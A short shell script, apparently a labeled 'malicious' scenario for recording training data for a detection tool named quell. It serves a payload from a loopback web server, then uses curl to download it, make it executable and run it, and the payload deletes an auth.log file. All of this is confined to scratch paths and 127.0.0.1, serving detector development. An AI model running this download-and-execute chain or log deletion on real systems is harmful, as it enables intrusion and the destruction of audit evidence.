#!/bin/sh
# quell labeled corpus scenario (malicious): an attacker with a terminal downloads and runs a payload that deletes auth.log
# Run by ../../record-corpus.sh under `quell run --record`; uses only the scratch paths it is given
# ($S below /var/log, $W below /tmp, $E below /etc, $B fake program names), loopback only.
set -u
touch $S/auth.log
mkdir -p $W/srv; printf "#!/bin/sh\nrm -f %s\n" "$S/auth.log" > $W/srv/payload
python3 -m http.server --bind 127.0.0.1 $P --directory $W/srv >/dev/null 2>&1 &
SRV=$!
sleep 0.7
script -qec "curl -s -o $W/p http://127.0.0.1:$P/payload; chmod +x $W/p; $W/p" /dev/null
kill $SRV 2>/dev/null; wait $SRV 2>/dev/null
